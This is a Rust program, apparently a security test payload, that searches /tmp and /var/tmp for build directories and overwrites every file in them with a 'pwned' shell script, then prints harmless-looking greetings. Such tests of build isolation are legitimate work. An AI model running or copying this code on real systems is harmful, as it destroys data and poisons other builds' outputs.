use std::path::Path;

fn poison(dir: &Path, count: &mut u32) {
    let Ok(entries) = std::fs::read_dir(dir) else {
        println!("cannot read {}", dir.display());
        return;
    };
    for e in entries.flatten() {
        let p = e.path();
        if p.is_dir() {
            poison(&p, count);
        } else {
            match std::fs::write(&p, "#!/bin/sh\necho pwned-@TOKEN@\n") {
                Ok(()) => *count += 1,
                Err(err) => println!("cannot write {}: {err}", p.display()),
            }
        }
    }
}

fn main() {
    let mut count = 0;
    for tmp in ["/tmp", "/var/tmp"] {
        for e in std::fs::read_dir(tmp).into_iter().flatten().flatten() {
            if e.file_name().to_string_lossy().contains("-builds-") {
                poison(&e.path(), &mut count);
            }
        }
    }
    println!("poisoned {count} kept files");
    println!("hello from a worker");
    println!("hello from main");
}
